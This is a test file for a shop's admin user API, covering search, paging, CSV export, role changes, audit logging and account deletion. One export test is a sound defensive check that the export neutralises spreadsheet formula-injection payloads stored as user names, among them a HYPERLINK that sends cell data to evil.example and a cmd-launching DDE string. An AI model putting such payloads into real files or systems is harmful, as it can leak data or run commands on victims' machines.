import crypto from 'node:crypto'
import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import type { AdminUserListResponse } from '@rdo/contracts'
import { session, user } from '../../db/schema/auth.ts'
import { orders } from '../../db/schema/orders.ts'
import { profiles } from '../../db/schema/profiles.ts'
import { wishlists } from '../../db/schema/reviews.ts'
import { supportTickets } from '../../db/schema/support.ts'
import {
  admin,
  auditFor,
  call,
  customer,
  insertOrder,
  json,
  sessionOf,
  t,
  tag,
  useUsersAdminWorld,
} from '../../../test/worlds/users-admin.ts'
import { createProduct } from '../../../test/products.ts'

useUsersAdminWorld()

describe('user list', () => {
  it('searches email and name, filters by role, sorts and pages on the server', async () => {
    const k = tag()
    const made = [
      await t.createUser({ email: `b-${k}@example.com`, name: 'Bea Alpha', signIn: false }),
      await t.createUser({ email: `a-${k}@example.com`, name: 'Cal Beta', signIn: false }),
      await t.createUser({ email: `c-${k}@example.com`, name: 'Abe Gamma', role: 'admin', signIn: false }),
    ]
    await t.db
      .update(profiles)
      .set({ username: `abe_${k}` })
      .where(eq(profiles.id, made[2]!.id))

    const all = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&sort=email&dir=asc`)
    expect(all.status).toBe(200)
    expect(all.body.total).toBe(3)
    expect(all.body.items.map((u) => u.email)).toEqual([
      `a-${k}@example.com`,
      `b-${k}@example.com`,
      `c-${k}@example.com`,
    ])
    expect(all.body.items[2]).toMatchObject({
      id: made[2]!.id,
      full_name: 'Abe Gamma',
      username: `abe_${k}`,
      role: 'admin',
      avatar_url: null,
    })
    expect(Date.parse(all.body.items[0]!.created_at)).toBeGreaterThan(0)

    const byName = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&sort=name&dir=desc`)
    expect(byName.body.items.map((u) => u.full_name)).toEqual(['Cal Beta', 'Bea Alpha', 'Abe Gamma'])

    // Search reaches names too, case-insensitively; the role filter applies with it.
    const name = await json<AdminUserListResponse>(
      'GET',
      `/api/admin/users?q=${encodeURIComponent('BEA ALPHA')}`,
    )
    expect(name.body.items.map((u) => u.id)).toContain(made[0]!.id)
    const admins = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&role=admin`)
    expect(admins.body.items.map((u) => u.id)).toEqual([made[2]!.id])
    const users = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&role=user`)
    expect(users.body.total).toBe(2)

    // Newest first by default; pages of two with the total of every match.
    const page1 = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=2`)
    const page2 = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=2&page=2`)
    expect(page1.body).toMatchObject({ total: 3, page: 1, per_page: 2 })
    expect(page1.body.items.map((u) => u.id)).toEqual([made[2]!.id, made[1]!.id])
    expect(page2.body.items.map((u) => u.id)).toEqual([made[0]!.id])

    // A wildcard in the search is a literal character, not "anything".
    expect((await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}%25zz`)).body.total).toBe(0)
  })

  it('totals without a search stay exact through sign-ups, role changes and deletions', async () => {
    const totals = async () => {
      const [all, admins, users] = await Promise.all(
        ['', '?role=admin', '?role=user'].map((q) =>
          json<AdminUserListResponse>('GET', `/api/admin/users${q}`),
        ),
      )
      const { rows } = await t.ctx.pool.query<{ role: string; n: string }>(
        'select role, count(*) as n from "user" group by role',
      )
      const counted = Object.fromEntries(rows.map((r) => [r.role, Number(r.n)]))
      expect(admins!.body.total).toBe(counted.admin ?? 0)
      expect(users!.body.total).toBe(counted.user ?? 0)
      expect(all!.body.total).toBe((counted.admin ?? 0) + (counted.user ?? 0))
      return { admins: admins!.body.total, users: users!.body.total }
    }
    const before = await totals()
    const u = await t.createUser({ signIn: false })
    expect(await totals()).toEqual({ admins: before.admins, users: before.users + 1 })
    expect(
      (await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'admin' })).statusCode,
    ).toBe(200)
    expect(await totals()).toEqual({ admins: before.admins + 1, users: before.users })
    expect((await call('DELETE', `/api/admin/users/${u.id}`)).statusCode).toBeLessThan(300)
    expect(await totals()).toEqual(before)
  })

  it('counts a broad search only up to 1,000 and says so; a narrower one exactly', async () => {
    const k = tag()
    await t.ctx.pool.query(
      `insert into "user" (name, email, email_verified) select 'Broad ' || g, 'broad' || g || '-' || $1 || '@example.com', true
       from generate_series(1, 1005) g`,
      [k],
    )
    const broad = await json<AdminUserListResponse>('GET', `/api/admin/users?q=${k}&per_page=100&page=3`)
    expect(broad.body).toMatchObject({ total: 1000, total_capped: true, page: 3 })
    expect(broad.body.items).toHaveLength(100)
    const narrow = await json<AdminUserListResponse>('GET', `/api/admin/users?q=broad1000-${k}`)
    expect(narrow.body.total).toBe(1)
    expect(narrow.body.total_capped).toBeUndefined()
  })

  it('refuses unknown sorts and roles, visitors and customers', async () => {
    expect((await call('GET', '/api/admin/users?sort=password')).statusCode).toBe(400)
    expect((await call('GET', '/api/admin/users?role=owner')).statusCode).toBe(400)
    expect((await call('GET', '/api/admin/users', '')).statusCode).toBe(401)
    expect((await call('GET', '/api/admin/users', customer.cookie)).statusCode).toBe(403)
  })

  it('exports every matching user as a CSV file named with the date', async () => {
    const k = tag()
    const a = await t.createUser({ email: `csv-a-${k}@example.com`, name: 'Csv, "Quoted"', signIn: false })
    await t.createUser({ email: `csv-b-${k}@example.com`, role: 'admin', signIn: false })
    const res = await call('GET', `/api/admin/users/export.csv?q=${k}&role=user`)
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="users-${new Date().toISOString().slice(0, 10)}.csv"`,
    )
    const lines = res.body.trim().split('\n')
    expect(lines[0]).toBe('id,email,name,username,role,created_at')
    expect(lines).toHaveLength(2)
    expect(lines[1]).toMatch(new RegExp(`^${a.id},csv-a-${k}@example.com,"Csv, ""Quoted""",,user,\\d{4}-`))

    const everyone = await call('GET', '/api/admin/users/export.csv')
    const [{ n }] = (await t.ctx.pool.query<{ n: string }>('select count(*) as n from "user"')).rows as [
      { n: string },
    ]
    expect(everyone.body.trim().split('\n')).toHaveLength(Number(n) + 1)
    expect((await call('GET', '/api/admin/users/export.csv', customer.cookie)).statusCode).toBe(403)
  })

  it('writes a customer-chosen text that a spreadsheet would run as a formula as plain text', async () => {
    const k = tag()
    const names = [
      '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ]
    const made = []
    for (const [i, name] of names.entries()) {
      made.push(await t.createUser({ email: `formula-${i}-${k}@example.com`, name, signIn: false }))
    }
    const res = await call('GET', `/api/admin/users/export.csv?q=formula&role=user`)
    expect(res.statusCode).toBe(200)
    // Each name comes back whole behind a single quote (quoted and escaped as CSV wants).
    const { stringify } = await import('csv-stringify/sync')
    for (const [i, u] of made.entries()) {
      const cell = stringify([[`'${names[i]}`]]).replace(/\n$/, '')
      expect(res.body, names[i]).toContain(`${u.id},${u.email},${cell},,user,`)
    }
  })
})

describe('role change', () => {
  it('changes the role with one audit entry; the new role applies at once', async () => {
    const u = await t.createUser()
    const res = await json<{ role: string; id: string }>(
      'PATCH',
      `/api/admin/users/${u.id}/role`,
      admin.cookie,
      {
        role: 'admin',
      },
    )
    expect(res).toMatchObject({ status: 200, body: { id: u.id, role: 'admin' } })
    expect((await call('GET', '/api/admin/summary', u.cookie)).statusCode).toBe(200)
    const audit = await auditFor(u.id)
    expect(audit.total).toBe(1)
    expect(audit.items[0]).toMatchObject({
      action: 'user.role_change',
      entity: 'user',
      actor: { id: admin.id },
      before: { role: 'user' },
      after: { role: 'admin' },
    })
    expect(audit.items[0]!.ip).toBeTruthy()

    // Setting the same role again changes nothing and records nothing.
    expect(
      (await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'admin' })).statusCode,
    ).toBe(200)
    expect((await auditFor(u.id)).total).toBe(1)

    await call('PATCH', `/api/admin/users/${u.id}/role`, admin.cookie, { role: 'user' })
    expect((await call('GET', '/api/admin/summary', u.cookie)).statusCode).toBe(403)
    expect((await auditFor(u.id)).total).toBe(2)
  })

  it('refuses demoting oneself, a missing user and a bad role, writing nothing', async () => {
    const self = await call('PATCH', `/api/admin/users/${admin.id}/role`, admin.cookie, { role: 'user' })
    expect(self.statusCode).toBe(403)
    expect(self.json().error.message).toBe('You cannot remove your own admin role')
    const [row] = await t.db.select({ role: user.role }).from(user).where(eq(user.id, admin.id))
    expect(row!.role).toBe('admin')
    expect((await auditFor(admin.id, 'user.role_change')).total).toBe(0)

    const missing = await call('PATCH', `/api/admin/users/${crypto.randomUUID()}/role`, admin.cookie, {
      role: 'admin',
    })
    expect(missing.statusCode).toBe(404)
    expect(missing.json().error.message).toBe('User not found')
    expect(
      (await call('PATCH', '/api/admin/users/not-an-id/role', admin.cookie, { role: 'user' })).statusCode,
    ).toBe(404)
    expect(
      (await call('PATCH', `/api/admin/users/${customer.id}/role`, admin.cookie, { role: 'owner' }))
        .statusCode,
    ).toBe(400)
    expect(
      (await call('PATCH', `/api/admin/users/${customer.id}/role`, customer.cookie, { role: 'admin' }))
        .statusCode,
    ).toBe(403)
  })
})

describe('delete user', () => {
  it('removes the person and their sessions, keeps their orders and tickets, records the before state', async () => {
    const u = await t.createUser({ name: 'Leaving Soon' })
    const { product } = await createProduct(t.db)
    const order = await insertOrder(u.id, { status: 'delivered', paid: true, total: 4200 })
    const [ticket] = await t.db
      .insert(supportTickets)
      .values({ userId: u.id, subject: 'Bye', message: 'Closing my account' })
      .returning()
    await t.db.insert(wishlists).values({ userId: u.id, productId: product.id })
    expect((await sessionOf(u.cookie)).user?.id).toBe(u.id)

    const res = await call('DELETE', `/api/admin/users/${u.id}`)
    expect(res.statusCode).toBe(200)
    expect(res.json()).toEqual({ ok: true, id: u.id })

    expect(await t.db.select().from(user).where(eq(user.id, u.id))).toHaveLength(0)
    expect(await t.db.select().from(profiles).where(eq(profiles.id, u.id))).toHaveLength(0)
    expect(await t.db.select().from(session).where(eq(session.userId, u.id))).toHaveLength(0)
    expect(await t.db.select().from(wishlists).where(eq(wishlists.userId, u.id))).toHaveLength(0)
    const [kept] = await t.db.select().from(orders).where(eq(orders.id, order.id))
    expect(kept).toMatchObject({ userId: null, totalCents: 4200, status: 'delivered' })
    const [keptTicket] = await t.db.select().from(supportTickets).where(eq(supportTickets.id, ticket!.id))
    expect(keptTicket!.userId).toBeNull()

    // Their cookie no longer works anywhere.
    expect((await sessionOf(u.cookie)).user).toBeNull()
    expect((await call('GET', '/api/profile', u.cookie)).statusCode).toBe(401)
    expect((await call('GET', '/api/orders', u.cookie)).statusCode).toBe(401)

    const audit = await auditFor(u.id)
    expect(audit.total).toBe(1)
    expect(audit.items[0]).toMatchObject({
      action: 'user.delete',
      entity: 'user',
      actor: { id: admin.id },
      before: { email: u.email, role: 'user', full_name: 'Leaving Soon', orders_kept: 1 },
      after: null,
    })

    const again = await call('DELETE', `/api/admin/users/${u.id}`)
    expect(again.statusCode).toBe(404)
    expect(again.json().error.message).toBe('User not found')
  })

  it('refuses deleting oneself and leaves everything as it was', async () => {
    const res = await call('DELETE', `/api/admin/users/${admin.id}`)
    expect(res.statusCode).toBe(403)
    expect(res.json().error.message).toBe('You cannot delete your own account')
    expect((await sessionOf(admin.cookie)).user?.id).toBe(admin.id)
    expect((await auditFor(admin.id, 'user.delete')).total).toBe(0)
    expect((await call('DELETE', `/api/admin/users/${admin.id}`, customer.cookie)).statusCode).toBe(403)
  })
})
